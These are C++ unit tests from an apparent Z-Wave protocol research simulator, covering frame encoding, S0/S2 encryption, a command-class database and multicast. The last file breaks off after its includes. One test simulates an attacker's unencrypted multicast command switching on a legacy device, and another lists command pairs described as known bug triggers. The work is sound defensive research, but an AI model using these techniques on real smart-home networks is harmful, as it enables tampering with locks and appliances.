#include "zwave/frame.h"

#include <gtest/gtest.h>

#include "common/rng.h"
#include "zwave/checksum.h"

namespace zc::zwave {
namespace {

MacFrame sample_frame() {
  AppPayload app;
  app.cmd_class = 0x20;
  app.command = 0x01;
  app.params = {0xFF};
  return make_singlecast(0xCB95A34A, 0x0F, 0x01, app, 5, true);
}

TEST(FrameTest, EncodeLayoutMatchesFig1) {
  const MacFrame frame = sample_frame();
  const auto encoded = frame.encode();
  ASSERT_TRUE(encoded.ok());
  const Bytes& raw = encoded.value();
  // H-ID(4) SRC P1 P2 LEN DST payload CS
  ASSERT_EQ(raw.size(), kMacHeaderSize + 3 + 1);
  EXPECT_EQ(read_be32(raw, 0), 0xCB95A34Au);
  EXPECT_EQ(raw[4], 0x0F);              // SRC
  EXPECT_EQ(raw[5] & 0x0F, 0x01);       // singlecast
  EXPECT_TRUE(raw[5] & 0x40);           // ack requested
  EXPECT_EQ(raw[6], 0x05);              // sequence
  EXPECT_EQ(raw[7], raw.size());        // LEN covers the whole frame
  EXPECT_EQ(raw[8], 0x01);              // DST
  EXPECT_EQ(raw[9], 0x20);              // CMDCL
  EXPECT_EQ(raw[10], 0x01);             // CMD
  EXPECT_EQ(raw[11], 0xFF);             // PARAM
}

TEST(FrameTest, DecodeInvertsEncode) {
  const MacFrame frame = sample_frame();
  const auto decoded = decode_frame(frame.encode().value());
  ASSERT_TRUE(decoded.ok());
  EXPECT_EQ(decoded.value().home_id, frame.home_id);
  EXPECT_EQ(decoded.value().src, frame.src);
  EXPECT_EQ(decoded.value().dst, frame.dst);
  EXPECT_EQ(decoded.value().sequence, frame.sequence);
  EXPECT_EQ(decoded.value().ack_requested, frame.ack_requested);
  EXPECT_EQ(decoded.value().payload, frame.payload);
}

TEST(FrameTest, RoundTripPropertyOverRandomFrames) {
  Rng rng(0xF7A3E);
  for (int i = 0; i < 500; ++i) {
    MacFrame frame;
    frame.home_id = rng.next_u32();
    frame.src = rng.next_byte();
    frame.dst = rng.next_byte();
    frame.sequence = static_cast<std::uint8_t>(rng.uniform(0, 15));
    frame.ack_requested = rng.chance(0.5);
    frame.routed = rng.chance(0.2);
    const std::uint64_t kinds[] = {0x1, 0x2, 0x3};
    frame.header = static_cast<HeaderType>(kinds[rng.uniform(0, 2)]);
    frame.payload = rng.bytes(static_cast<std::size_t>(rng.uniform(0, 54)));

    const auto encoded = frame.encode();
    ASSERT_TRUE(encoded.ok());
    const auto decoded = decode_frame(encoded.value());
    ASSERT_TRUE(decoded.ok()) << decoded.error().message;
    EXPECT_EQ(decoded.value().payload, frame.payload);
    EXPECT_EQ(decoded.value().home_id, frame.home_id);
    EXPECT_EQ(decoded.value().header, frame.header);
    EXPECT_EQ(decoded.value().routed, frame.routed);
  }
}

TEST(FrameTest, EncodeRejectsOversizedPayload) {
  MacFrame frame = sample_frame();
  frame.payload = Bytes(55, 0xAA);  // 9 + 55 + 1 = 65 > 64
  const auto encoded = frame.encode();
  ASSERT_FALSE(encoded.ok());
  EXPECT_EQ(encoded.error().code, Errc::kBadLength);
}

TEST(FrameTest, MaxSizeFrameIsExactly64Bytes) {
  MacFrame frame = sample_frame();
  frame.payload = Bytes(54, 0xAA);
  const auto encoded = frame.encode();
  ASSERT_TRUE(encoded.ok());
  EXPECT_EQ(encoded.value().size(), kMaxMacFrame);
  EXPECT_TRUE(decode_frame(encoded.value()).ok());
}

TEST(FrameTest, DecodeRejectsTruncated) {
  const auto result = decode_frame(Bytes{0x01, 0x02, 0x03});
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.error().code, Errc::kTruncated);
}

TEST(FrameTest, DecodeRejectsLenMismatch) {
  Bytes raw = sample_frame().encode_raw(/*len_override=*/0x20);
  const auto result = decode_frame(raw);
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.error().code, Errc::kBadLength);
}

TEST(FrameTest, DecodeRejectsBadChecksum) {
  Bytes raw = sample_frame().encode_raw(std::nullopt, /*cs_override=*/0x00);
  // Guard: make sure the override actually broke the checksum.
  ASSERT_NE(checksum8(ByteView(raw.data(), raw.size() - 1)), 0x00);
  const auto result = decode_frame(raw);
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.error().code, Errc::kBadChecksum);
}

TEST(FrameTest, DecodeRejectsUnknownHeaderType) {
  Bytes raw = sample_frame().encode_raw();
  raw[5] = (raw[5] & 0xF0) | 0x07;  // nibble 7 is unassigned
  raw[raw.size() - 1] = checksum8(ByteView(raw.data(), raw.size() - 1));
  const auto result = decode_frame(raw);
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.error().code, Errc::kBadField);
}

TEST(FrameTest, AppPayloadDecodeHierarchy) {
  const Bytes payload = {0x62, 0x01, 0xFF, 0x00};
  const auto app = decode_app_payload(payload);
  ASSERT_TRUE(app.ok());
  EXPECT_EQ(app.value().cmd_class, 0x62);
  EXPECT_EQ(app.value().command, 0x01);
  EXPECT_EQ(app.value().params, (Bytes{0xFF, 0x00}));
}

TEST(FrameTest, AppPayloadLoneClassIsLegal) {
  const auto app = decode_app_payload(Bytes{0x5A});
  ASSERT_TRUE(app.ok());
  EXPECT_EQ(app.value().cmd_class, 0x5A);
  EXPECT_EQ(app.value().command, 0x00);
  EXPECT_TRUE(app.value().params.empty());
}

TEST(FrameTest, AppPayloadEmptyRejected) {
  EXPECT_FALSE(decode_app_payload(Bytes{}).ok());
}

TEST(FrameTest, MakeAckMirrorsAddressing) {
  const MacFrame frame = sample_frame();
  const MacFrame ack = make_ack(frame, 0x01);
  EXPECT_EQ(ack.header, HeaderType::kAck);
  EXPECT_EQ(ack.src, 0x01);
  EXPECT_EQ(ack.dst, frame.src);
  EXPECT_EQ(ack.home_id, frame.home_id);
  EXPECT_EQ(ack.sequence, frame.sequence);
  EXPECT_FALSE(ack.ack_requested);
}

TEST(FrameTest, Crc16ModeRoundTrip) {
  const MacFrame frame = sample_frame();
  const auto encoded = frame.encode(IntegrityMode::kCrc16);
  ASSERT_TRUE(encoded.ok());
  // 2-byte trailer instead of 1.
  EXPECT_EQ(encoded.value().size(), kMacHeaderSize + frame.payload.size() + 2);
  const auto decoded = decode_frame(encoded.value(), IntegrityMode::kCrc16);
  ASSERT_TRUE(decoded.ok()) << decoded.error().message;
  EXPECT_EQ(decoded.value().payload, frame.payload);
}

TEST(FrameTest, Crc16ModeDetectsCorruption) {
  const MacFrame frame = sample_frame();
  Bytes raw = frame.encode(IntegrityMode::kCrc16).value();
  raw[10] ^= 0x01;
  const auto decoded = decode_frame(raw, IntegrityMode::kCrc16);
  ASSERT_FALSE(decoded.ok());
  EXPECT_EQ(decoded.error().code, Errc::kBadChecksum);
}

TEST(FrameTest, ModeMismatchIsRejected) {
  // A CS-8 frame read as CRC-16 (or vice versa) must fail validation:
  // channel configuration mismatches cannot silently parse.
  const MacFrame frame = sample_frame();
  const Bytes cs8 = frame.encode(IntegrityMode::kChecksum8).value();
  EXPECT_FALSE(decode_frame(cs8, IntegrityMode::kCrc16).ok());
  const Bytes crc = frame.encode(IntegrityMode::kCrc16).value();
  EXPECT_FALSE(decode_frame(crc, IntegrityMode::kChecksum8).ok());
}

TEST(FrameTest, Crc16ModeMaxPayloadShrinksByOne) {
  MacFrame frame = sample_frame();
  frame.payload = Bytes(54, 0xAA);  // fits CS-8 exactly
  EXPECT_TRUE(frame.encode(IntegrityMode::kChecksum8).ok());
  EXPECT_FALSE(frame.encode(IntegrityMode::kCrc16).ok());
  frame.payload.resize(53);
  EXPECT_TRUE(frame.encode(IntegrityMode::kCrc16).ok());
}

TEST(FrameTest, DescribeMentionsKeyFields) {
  const std::string text = sample_frame().describe();
  EXPECT_NE(text.find("singlecast"), std::string::npos);
  EXPECT_NE(text.find("CB95A34A"), std::string::npos);
}

}  // namespace
}  // namespace zc::zwave
