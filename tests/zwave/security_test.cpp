#include "zwave/security.h"

#include <gtest/gtest.h>

#include "common/rng.h"

namespace zc::zwave {
namespace {

AppPayload lock_command() {
  AppPayload app;
  app.cmd_class = 0x62;
  app.command = 0x01;
  app.params = {0xFF};
  return app;
}

crypto::CtrDrbg make_drbg(std::uint8_t fill) { return crypto::CtrDrbg(Bytes(32, fill)); }

TEST(S0SessionTest, EncapsulateDecapsulateRoundTrip) {
  crypto::AesKey network_key{};
  network_key.fill(0x42);
  const S0Session sender(network_key);
  const S0Session receiver(network_key);
  auto drbg_rx = make_drbg(1);
  auto drbg_tx = make_drbg(2);

  // Receiver hands out a nonce; sender encapsulates against it.
  S0Session receiver_session(network_key);
  const Bytes nonce = receiver_session.make_nonce(drbg_rx);
  const AppPayload outer = sender.encapsulate(lock_command(), 0x0F, 0x01, nonce, drbg_tx);
  EXPECT_EQ(outer.cmd_class, kSecurity0Class);
  EXPECT_EQ(outer.command, kS0MessageEncap);

  const auto inner = receiver.decapsulate(outer, 0x0F, 0x01, nonce);
  ASSERT_TRUE(inner.ok()) << inner.error().message;
  EXPECT_EQ(inner.value().cmd_class, 0x62);
  EXPECT_EQ(inner.value().params, (Bytes{0xFF}));
}

TEST(S0SessionTest, CiphertextHidesPlaintext) {
  crypto::AesKey network_key{};
  network_key.fill(0x42);
  const S0Session session(network_key);
  auto drbg_rx = make_drbg(1);
  auto drbg_tx = make_drbg(2);
  S0Session rx(network_key);
  const Bytes nonce = rx.make_nonce(drbg_rx);
  const AppPayload outer = session.encapsulate(lock_command(), 0x0F, 0x01, nonce, drbg_tx);
  // The inner bytes 62 01 FF must not appear contiguously in the encap.
  const Bytes inner_bytes = lock_command().encode();
  const auto it = std::search(outer.params.begin(), outer.params.end(), inner_bytes.begin(),
                              inner_bytes.end());
  EXPECT_EQ(it, outer.params.end());
}

TEST(S0SessionTest, RejectsTamperedCiphertext) {
  crypto::AesKey network_key{};
  network_key.fill(0x42);
  const S0Session session(network_key);
  auto drbg_rx = make_drbg(1);
  auto drbg_tx = make_drbg(2);
  S0Session rx(network_key);
  const Bytes nonce = rx.make_nonce(drbg_rx);
  AppPayload outer = session.encapsulate(lock_command(), 0x0F, 0x01, nonce, drbg_tx);
  outer.params[9] ^= 0x01;  // flip a ciphertext byte
  const auto inner = session.decapsulate(outer, 0x0F, 0x01, nonce);
  ASSERT_FALSE(inner.ok());
  EXPECT_EQ(inner.error().code, Errc::kAuthFailed);
}

TEST(S0SessionTest, RejectsWrongNonce) {
  crypto::AesKey network_key{};
  network_key.fill(0x42);
  const S0Session session(network_key);
  auto drbg_rx = make_drbg(1);
  auto drbg_tx = make_drbg(2);
  S0Session rx(network_key);
  const Bytes nonce = rx.make_nonce(drbg_rx);
  const AppPayload outer = session.encapsulate(lock_command(), 0x0F, 0x01, nonce, drbg_tx);
  Bytes other_nonce = nonce;
  other_nonce[0] ^= 0xFF;
  EXPECT_FALSE(session.decapsulate(outer, 0x0F, 0x01, other_nonce).ok());
}

TEST(S0SessionTest, RejectsWrongAddressing) {
  crypto::AesKey network_key{};
  network_key.fill(0x42);
  const S0Session session(network_key);
  auto drbg_rx = make_drbg(1);
  auto drbg_tx = make_drbg(2);
  S0Session rx(network_key);
  const Bytes nonce = rx.make_nonce(drbg_rx);
  const AppPayload outer = session.encapsulate(lock_command(), 0x0F, 0x01, nonce, drbg_tx);
  // Replaying toward a different destination must fail the MAC.
  EXPECT_FALSE(session.decapsulate(outer, 0x0F, 0x02, nonce).ok());
}

TEST(S0SessionTest, TempKeyIsAllZeros) {
  EXPECT_EQ(s0_temp_key(), crypto::AesKey{});
}

class S2SessionTest : public ::testing::Test {
 protected:
  S2SessionTest() {
    Rng rng(0x5EC2);
    const crypto::X25519Key a = crypto::make_x25519_key(rng.bytes(32));
    const crypto::X25519Key b = crypto::make_x25519_key(rng.bytes(32));
    keys_a_ = s2_key_agreement(a, crypto::x25519_public(b));
    keys_b_ = s2_key_agreement(b, crypto::x25519_public(a));
    seed_ = rng.bytes(32);
  }

  crypto::S2Keys keys_a_{}, keys_b_{};
  Bytes seed_;
};

TEST_F(S2SessionTest, KeyAgreementIsSymmetric) {
  EXPECT_EQ(keys_a_.ccm_key, keys_b_.ccm_key);
  EXPECT_EQ(keys_a_.auth_key, keys_b_.auth_key);
  EXPECT_EQ(keys_a_.nonce_key, keys_b_.nonce_key);
}

TEST_F(S2SessionTest, RoundTripSequenceOfMessages) {
  S2Session sender(keys_a_, seed_);
  S2Session receiver(keys_b_, seed_);
  for (int i = 0; i < 10; ++i) {
    AppPayload inner = lock_command();
    inner.params[0] = static_cast<std::uint8_t>(i);
    const AppPayload outer = sender.encapsulate(inner, 0xC7E9DD54, 0x01, 0x02);
    const auto decoded = receiver.decapsulate(outer, 0xC7E9DD54, 0x01, 0x02);
    ASSERT_TRUE(decoded.ok()) << "message " << i << ": " << decoded.error().message;
    EXPECT_EQ(decoded.value().params[0], i);
  }
}

TEST_F(S2SessionTest, ForgedTagRejected) {
  S2Session sender(keys_a_, seed_);
  S2Session receiver(keys_b_, seed_);
  AppPayload outer = sender.encapsulate(lock_command(), 0xC7E9DD54, 0x01, 0x02);
  outer.params.back() ^= 0x01;
  const auto decoded = receiver.decapsulate(outer, 0xC7E9DD54, 0x01, 0x02);
  ASSERT_FALSE(decoded.ok());
  EXPECT_EQ(decoded.error().code, Errc::kAuthFailed);
}

TEST_F(S2SessionTest, AttackerWithoutKeysCannotForge) {
  S2Session receiver(keys_b_, seed_);
  // An attacker who sniffed everything but lacks the ECDH secret.
  Rng attacker_rng(0xBAD);
  const crypto::X25519Key mallory = crypto::make_x25519_key(attacker_rng.bytes(32));
  const crypto::S2Keys wrong = s2_key_agreement(mallory, crypto::x25519_public(mallory));
  S2Session forger(wrong, seed_);
  const AppPayload outer = forger.encapsulate(lock_command(), 0xC7E9DD54, 0x01, 0x02);
  EXPECT_FALSE(receiver.decapsulate(outer, 0xC7E9DD54, 0x01, 0x02).ok());
}

TEST_F(S2SessionTest, LostFrameDesynchronizesThenResyncRecovers) {
  S2Session sender(keys_a_, seed_);
  S2Session receiver(keys_b_, seed_);
  // Frame 0 lost on air: the receiver never sees it.
  (void)sender.encapsulate(lock_command(), 0xC7E9DD54, 0x01, 0x02);
  const AppPayload second = sender.encapsulate(lock_command(), 0xC7E9DD54, 0x01, 0x02);
  EXPECT_FALSE(receiver.decapsulate(second, 0xC7E9DD54, 0x01, 0x02).ok());

  // NONCE_GET/REPORT resync: both sides re-seed the SPAN.
  const Bytes new_seed(32, 0x77);
  sender.resync(new_seed);
  receiver.resync(new_seed);
  const AppPayload third = sender.encapsulate(lock_command(), 0xC7E9DD54, 0x01, 0x02);
  EXPECT_TRUE(receiver.decapsulate(third, 0xC7E9DD54, 0x01, 0x02).ok());
}

TEST_F(S2SessionTest, ReplayToOtherAddressRejected) {
  S2Session sender(keys_a_, seed_);
  S2Session receiver(keys_b_, seed_);
  const AppPayload outer = sender.encapsulate(lock_command(), 0xC7E9DD54, 0x01, 0x02);
  EXPECT_FALSE(receiver.decapsulate(outer, 0xC7E9DD54, 0x03, 0x02).ok());
}

TEST_F(S2SessionTest, TruncatedEncapRejected) {
  S2Session receiver(keys_b_, seed_);
  AppPayload outer;
  outer.cmd_class = kSecurity2Class;
  outer.command = kS2MessageEncap;
  outer.params = {0x00};
  const auto decoded = receiver.decapsulate(outer, 0xC7E9DD54, 0x01, 0x02);
  ASSERT_FALSE(decoded.ok());
  EXPECT_EQ(decoded.error().code, Errc::kTruncated);
}

}  // namespace
}  // namespace zc::zwave
