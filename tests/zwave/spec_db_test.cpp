#include "zwave/command_class.h"

#include <gtest/gtest.h>

#include <map>
#include <set>

namespace zc::zwave {
namespace {

TEST(SpecDbTest, PublicSpecCountMatchesPaper) {
  // §III-C1: "as of November 2024, [the specification] lists 122 CMDCLs".
  EXPECT_EQ(SpecDatabase::instance().public_spec_count(), 122u);
}

TEST(SpecDbTest, ProprietaryClassesExistButAreUnlisted) {
  const auto& db = SpecDatabase::instance();
  const auto* protocol = db.find(0x01);
  const auto* zensor = db.find(0x02);
  ASSERT_NE(protocol, nullptr);
  ASSERT_NE(zensor, nullptr);
  EXPECT_FALSE(protocol->in_public_spec);
  EXPECT_FALSE(zensor->in_public_spec);
  EXPECT_EQ(protocol->cluster, CcCluster::kProtocol);
}

TEST(SpecDbTest, ClassIdsAreUniqueAndSorted) {
  const auto& db = SpecDatabase::instance();
  std::set<CommandClassId> seen;
  CommandClassId prev = 0;
  bool first = true;
  for (const auto& spec : db.all()) {
    EXPECT_TRUE(seen.insert(spec.id).second) << "duplicate class id " << int(spec.id);
    if (!first) {
      EXPECT_GT(spec.id, prev);
    }
    prev = spec.id;
    first = false;
  }
}

TEST(SpecDbTest, CommandIdsUniqueWithinEachClass) {
  for (const auto& spec : SpecDatabase::instance().all()) {
    std::set<CommandId> seen;
    for (const auto& command : spec.commands) {
      EXPECT_TRUE(seen.insert(command.id).second)
          << spec.name << " duplicates command " << int(command.id);
    }
  }
}

TEST(SpecDbTest, ControllerClusterCountsMatchPaper) {
  const auto& db = SpecDatabase::instance();
  // 45 prioritized classes in Table V = 43 spec classes + 2 proprietary.
  EXPECT_EQ(db.controller_cluster(true).size(), 45u);
  EXPECT_EQ(db.controller_cluster(false).size(), 43u);
}

TEST(SpecDbTest, ClusterMembersAreControllerRelevant) {
  const auto& db = SpecDatabase::instance();
  for (CommandClassId id : db.controller_cluster(true)) {
    const auto* spec = db.find(id);
    ASSERT_NE(spec, nullptr);
    EXPECT_TRUE(spec->controller_relevant()) << spec->name;
  }
}

TEST(SpecDbTest, SlaveOnlyClassesExcludedFromCluster) {
  const auto& db = SpecDatabase::instance();
  const auto cluster = db.controller_cluster(true);
  for (CommandClassId slave_class : {0x20, 0x25, 0x30, 0x62, 0x63, 0x71, 0x80}) {
    if (slave_class == 0x80) continue;  // battery is management
    EXPECT_EQ(std::count(cluster.begin(), cluster.end(), slave_class), 0)
        << "class " << slave_class << " should not be controller-relevant";
  }
}

TEST(SpecDbTest, Figure5SelectedClassCommandCounts) {
  // Fig. 5 visualizes 15 selected classes plus the empty MARK; the bars are
  // 23 15 11 10 8 7 6 6 5 4 3 2 2 1 1 0.
  const std::map<CommandClassId, std::size_t> expected = {
      {0x9F, 23}, {0x34, 15}, {0x7A, 11}, {0x63, 10}, {0x85, 8}, {0x60, 7},
      {0x86, 6},  {0x70, 6},  {0x71, 5},  {0x32, 4},  {0x20, 3}, {0x80, 2},
      {0x22, 2},  {0x5A, 1},  {0x82, 1},  {0xEF, 0}};
  const auto& db = SpecDatabase::instance();
  for (const auto& [id, count] : expected) {
    EXPECT_EQ(db.command_count(id), count) << "class 0x" << std::hex << int(id);
  }
}

TEST(SpecDbTest, FindUnknownClassReturnsNull) {
  EXPECT_EQ(SpecDatabase::instance().find(0x03), nullptr);
  EXPECT_EQ(SpecDatabase::instance().command_count(0x03), 0u);
}

TEST(SpecDbTest, FindCommandWithinClass) {
  const auto* version = SpecDatabase::instance().find(0x86);
  ASSERT_NE(version, nullptr);
  const auto* get = version->find_command(0x13);
  ASSERT_NE(get, nullptr);
  EXPECT_EQ(get->name, "COMMAND_CLASS_GET");
  EXPECT_EQ(version->find_command(0xEE), nullptr);
}

TEST(SpecDbTest, BugTriggerCommandsExistInSpec) {
  // Every Table III trigger (class, command) must be a real spec entry so
  // the position-sensitive mutator can generate it from the schema —
  // except the NODE_TABLE_UPDATE family which is proprietary by design.
  const auto& db = SpecDatabase::instance();
  const std::pair<CommandClassId, CommandId> triggers[] = {
      {0x01, 0x0D}, {0x01, 0x02}, {0x01, 0x04}, {0x9F, 0x01}, {0x5A, 0x01},
      {0x59, 0x03}, {0x59, 0x05}, {0x7A, 0x01}, {0x7A, 0x03}, {0x86, 0x13},
      {0x73, 0x04}};
  for (const auto& [cc, cmd] : triggers) {
    const auto* spec = db.find(cc);
    ASSERT_NE(spec, nullptr) << "class " << int(cc);
    EXPECT_NE(spec->find_command(cmd), nullptr)
        << "class " << int(cc) << " command " << int(cmd);
  }
}

TEST(SpecDbTest, GoldenCommandIdsMatchPublicAssignments) {
  // Pin well-known public command ids so registry edits cannot silently
  // drift from the real protocol.
  const auto& db = SpecDatabase::instance();
  struct Golden {
    CommandClassId cc;
    CommandId cmd;
    std::string_view name;
  };
  const Golden golden[] = {
      {0x20, 0x01, "SET"},                      // BASIC_SET
      {0x20, 0x02, "GET"},                      // BASIC_GET
      {0x25, 0x03, "REPORT"},                   // SWITCH_BINARY_REPORT
      {0x62, 0x01, "OPERATION_SET"},            // DOOR_LOCK
      {0x84, 0x04, "INTERVAL_SET"},             // WAKE_UP
      {0x84, 0x08, "NO_MORE_INFORMATION"},
      {0x85, 0x02, "GET"},                      // ASSOCIATION_GET
      {0x86, 0x11, "GET"},                      // VERSION_GET
      {0x86, 0x13, "COMMAND_CLASS_GET"},
      {0x98, 0x40, "NONCE_GET"},                // SECURITY
      {0x98, 0x81, "MESSAGE_ENCAPSULATION"},
      {0x9F, 0x03, "MESSAGE_ENCAPSULATION"},    // SECURITY_2
      {0x9F, 0x07, "KEX_FAIL"},
      {0x70, 0x04, "SET"},                      // CONFIGURATION_SET
      {0x72, 0x05, "REPORT"},                   // MANUFACTURER_SPECIFIC
      {0x5A, 0x01, "NOTIFICATION"},             // DEVICE_RESET_LOCALLY
  };
  for (const auto& g : golden) {
    const auto* spec = db.find(g.cc);
    ASSERT_NE(spec, nullptr) << int(g.cc);
    const auto* command = spec->find_command(g.cmd);
    ASSERT_NE(command, nullptr) << int(g.cc) << "/" << int(g.cmd);
    EXPECT_EQ(command->name, g.name) << int(g.cc) << "/" << int(g.cmd);
  }
}

TEST(SpecDbTest, ParamSpecLegality) {
  const ParamSpec spec{"Operation", ParamType::kEnum, 0x00, 0x04};
  EXPECT_TRUE(spec.is_legal(0x00));
  EXPECT_TRUE(spec.is_legal(0x04));
  EXPECT_FALSE(spec.is_legal(0x05));
  EXPECT_FALSE(spec.is_legal(0xFF));
}

TEST(SpecDbTest, EveryClassHasAName) {
  for (const auto& spec : SpecDatabase::instance().all()) {
    EXPECT_FALSE(spec.name.empty());
    for (const auto& command : spec.commands) {
      EXPECT_FALSE(command.name.empty()) << spec.name;
      for (const auto& param : command.params) {
        EXPECT_FALSE(param.name.empty()) << spec.name << "::" << command.name;
        EXPECT_LE(param.min, param.max) << spec.name << "::" << command.name;
      }
    }
  }
}

TEST(SpecDbTest, ClusterNamesAreStable) {
  EXPECT_STREQ(cc_cluster_name(CcCluster::kTransportEncapsulation),
               "transport-encapsulation");
  EXPECT_STREQ(cc_cluster_name(CcCluster::kProtocol), "protocol");
  EXPECT_STREQ(param_type_name(ParamType::kVariadic), "variadic");
}

}  // namespace
}  // namespace zc::zwave
