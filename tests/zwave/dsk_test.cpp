#include "zwave/dsk.h"

#include <gtest/gtest.h>

#include "common/rng.h"

namespace zc::zwave {
namespace {

Dsk sample_dsk() {
  Dsk dsk{};
  for (std::size_t i = 0; i < dsk.size(); ++i) dsk[i] = static_cast<std::uint8_t>(i * 17 + 3);
  return dsk;
}

TEST(DskTest, FormatShape) {
  const std::string text = format_dsk(sample_dsk());
  ASSERT_EQ(text.size(), 8 * 5 + 7);
  for (std::size_t i = 0; i < text.size(); ++i) {
    if (i % 6 == 5) {
      EXPECT_EQ(text[i], '-');
    } else {
      EXPECT_TRUE(text[i] >= '0' && text[i] <= '9');
    }
  }
}

TEST(DskTest, FormatZeroPads) {
  Dsk dsk{};  // all zero
  EXPECT_EQ(format_dsk(dsk), "00000-00000-00000-00000-00000-00000-00000-00000");
}

TEST(DskTest, RoundTripProperty) {
  Rng rng(0xD5C);
  for (int i = 0; i < 200; ++i) {
    Dsk dsk{};
    const Bytes bytes = rng.bytes(16);
    std::copy(bytes.begin(), bytes.end(), dsk.begin());
    const auto parsed = parse_dsk(format_dsk(dsk));
    ASSERT_TRUE(parsed.has_value());
    EXPECT_EQ(*parsed, dsk);
  }
}

TEST(DskTest, ParseToleratesSpaces) {
  const Dsk dsk = sample_dsk();
  std::string text = format_dsk(dsk);
  for (std::size_t i = 0; i < text.size(); ++i) {
    if (text[i] == '-') text.insert(i + 1, " ");
  }
  const auto parsed = parse_dsk(text);
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(*parsed, dsk);
}

TEST(DskTest, ParseRejectsGarbage) {
  EXPECT_FALSE(parse_dsk("").has_value());
  EXPECT_FALSE(parse_dsk("12345").has_value());                       // too few groups
  EXPECT_FALSE(parse_dsk("1234-12345-12345-12345-12345-12345-12345-12345").has_value());
  EXPECT_FALSE(parse_dsk("99999-12345-12345-12345-12345-12345-12345-12345").has_value());
  EXPECT_FALSE(
      parse_dsk("12345-12345-12345-12345-12345-12345-12345-12345-xx").has_value());
}

TEST(DskTest, ParseRejectsGroupOverflow) {
  // 70000 > 0xFFFF even though it is five digits.
  EXPECT_FALSE(
      parse_dsk("70000-12345-12345-12345-12345-12345-12345-12345").has_value());
}

TEST(DskTest, PinIsFirstGroup) {
  Dsk dsk{};
  dsk[0] = 0x84;
  dsk[1] = 0xF4;  // 34036
  EXPECT_EQ(dsk_pin(dsk), 0x84F4);
  EXPECT_EQ(format_dsk(dsk).substr(0, 5), "34036");
}

TEST(DskTest, DerivedFromPublicKey) {
  Rng rng(0xD5C2);
  const auto priv = crypto::make_x25519_key(rng.bytes(32));
  const auto pub = crypto::x25519_public(priv);
  const Dsk dsk = dsk_from_public_key(pub);
  EXPECT_TRUE(std::equal(dsk.begin(), dsk.end(), pub.begin()));
}

}  // namespace
}  // namespace zc::zwave
