#include "zwave/multicast.h"

#include <gtest/gtest.h>

#include "sim/testbed.h"

namespace zc::zwave {
namespace {

TEST(MulticastTest, MaskEncodesBitPerNode) {
  const Bytes mask = encode_multicast_mask({1, 3, 9});
  ASSERT_GE(mask.size(), 3u);
  EXPECT_EQ(mask[0], 2);           // mask length: nodes up to 9 need 2 bytes
  EXPECT_EQ(mask[1], 0b00000101);  // nodes 1 and 3
  EXPECT_EQ(mask[2], 0b00000001);  // node 9
}

TEST(MulticastTest, SplitRoundTrip) {
  AppPayload app;
  app.cmd_class = 0x20;
  app.command = 0x01;
  app.params = {0x00};
  const MacFrame frame = make_multicast(0xC7E9DD54, 0x01, {2, 3}, app, 5);
  EXPECT_EQ(frame.header, HeaderType::kMulticast);
  EXPECT_FALSE(frame.ack_requested);

  const auto split = split_multicast_payload(frame.payload);
  ASSERT_TRUE(split.ok());
  EXPECT_EQ(split.value().destinations, (std::vector<NodeId>{2, 3}));
  EXPECT_TRUE(split.value().addresses(2));
  EXPECT_FALSE(split.value().addresses(4));
  EXPECT_EQ(split.value().app_payload, app.encode());
}

TEST(MulticastTest, SplitRejectsMalformedMasks) {
  EXPECT_FALSE(split_multicast_payload(Bytes{}).ok());
  EXPECT_FALSE(split_multicast_payload(Bytes{0}).ok());        // zero length
  EXPECT_FALSE(split_multicast_payload(Bytes{30, 0xFF}).ok()); // above max
  EXPECT_FALSE(split_multicast_payload(Bytes{2, 0x01}).ok());  // truncated
  EXPECT_FALSE(split_multicast_payload(Bytes{1, 0x00, 0x20}).ok());  // empty mask
}

TEST(MulticastTest, HighNodeIds) {
  const Bytes mask = encode_multicast_mask({232});
  EXPECT_EQ(mask[0], 29);
  const auto split = split_multicast_payload(concat(mask, Bytes{0x20, 0x02}));
  ASSERT_TRUE(split.ok());
  EXPECT_EQ(split.value().destinations, (std::vector<NodeId>{232}));
}

TEST(MulticastTest, SwitchObeysMulticastBlast) {
  // The classic legacy attack: one multicast BASIC SET flips every
  // unencrypted actuator at once.
  sim::Testbed testbed(sim::TestbedConfig{});
  radio::MacEndpoint attacker(testbed.medium(), testbed.attacker_radio_config("attacker"));
  AppPayload blast;
  blast.cmd_class = 0x25;
  blast.command = 0x01;
  blast.params = {0xFF};
  attacker.send(make_multicast(testbed.controller().home_id(), 0xE7,
                               {sim::Testbed::kLockNodeId, sim::Testbed::kSwitchNodeId},
                               blast, 1));
  testbed.scheduler().run_for(100 * kMillisecond);
  EXPECT_TRUE(testbed.smart_switch()->on());   // legacy device obeys
  EXPECT_TRUE(testbed.door_lock()->locked());  // S2 device ignores plaintext
}

TEST(MulticastTest, NonAddressedNodeIgnores) {
  sim::Testbed testbed(sim::TestbedConfig{});
  radio::MacEndpoint attacker(testbed.medium(), testbed.attacker_radio_config("attacker"));
  AppPayload blast;
  blast.cmd_class = 0x25;
  blast.command = 0x01;
  blast.params = {0xFF};
  attacker.send(make_multicast(testbed.controller().home_id(), 0xE7,
                               {sim::Testbed::kLockNodeId}, blast, 1));  // switch excluded
  testbed.scheduler().run_for(100 * kMillisecond);
  EXPECT_FALSE(testbed.smart_switch()->on());
}

TEST(MulticastTest, ControllerProcessesAddressedMulticast) {
  sim::Testbed testbed(sim::TestbedConfig{});
  radio::MacEndpoint attacker(testbed.medium(), testbed.attacker_radio_config("attacker"));
  AppPayload probe;
  probe.cmd_class = 0x86;
  probe.command = 0x11;
  attacker.send(
      make_multicast(testbed.controller().home_id(), 0xE7, {0x01}, probe, 1));
  testbed.scheduler().run_for(100 * kMillisecond);
  EXPECT_TRUE(testbed.controller().stats().accepted_pairs.contains({0x86, 0x11}));
}

TEST(MulticastTest, MulticastIsNeverAcked) {
  sim::Testbed testbed(sim::TestbedConfig{});
  radio::MacEndpoint attacker(testbed.medium(), testbed.attacker_radio_config("attacker"));
  std::size_t acks = 0;
  attacker.set_frame_handler([&](const zwave::MacFrame& frame, double) {
    if (frame.header == HeaderType::kAck) ++acks;
  });
  AppPayload probe;
  probe.cmd_class = 0x01;
  probe.command = 0x01;
  attacker.send(make_multicast(testbed.controller().home_id(), 0xE7,
                               {0x01, sim::Testbed::kSwitchNodeId}, probe, 1));
  testbed.scheduler().run_for(200 * kMillisecond);
  EXPECT_EQ(acks, 0u);
}

}  // namespace
}  // namespace zc::zwave
