#include "zwave/routing.h"

#include <gtest/gtest.h>
